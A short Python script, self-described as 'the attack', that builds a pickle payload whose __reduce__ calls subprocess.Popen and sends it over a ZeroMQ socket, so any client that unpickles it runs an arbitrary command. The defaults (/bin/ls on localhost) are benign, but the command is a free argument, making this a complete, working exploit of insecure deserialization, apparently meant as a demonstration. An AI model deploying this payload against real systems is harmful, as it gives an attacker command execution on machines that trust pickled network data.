"""The attack: send one pickle that runs a command in whatever process loads it."""

from __future__ import annotations

import argparse
import pickle
import subprocess
from collections.abc import Sequence

import zmq


class Payload:
    """An object that pickles as a call, and so never arrives: the loader makes the call instead."""

    def __init__(self, command: Sequence[str]) -> None:
        self.command = tuple(command)

    def __reduce__(self) -> tuple[object, ...]:
        return (subprocess.Popen, (self.command,))


def serve(address: str, command: Sequence[str]) -> None:
    """Send the command to the first client that connects."""
    with zmq.Context() as context, context.socket(zmq.PUSH) as socket:
        socket.bind(address)
        print("waiting for a client on", socket.getsockopt_string(zmq.LAST_ENDPOINT), flush=True)
        socket.send(pickle.dumps(Payload(command)))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--address", default="tcp://127.0.0.1:5555", help="default: %(default)s")
    parser.add_argument("command", nargs="*", default=["/bin/ls"], help="default: /bin/ls")
    args = parser.parse_args()
    serve(args.address, args.command)


if __name__ == "__main__":
    main()
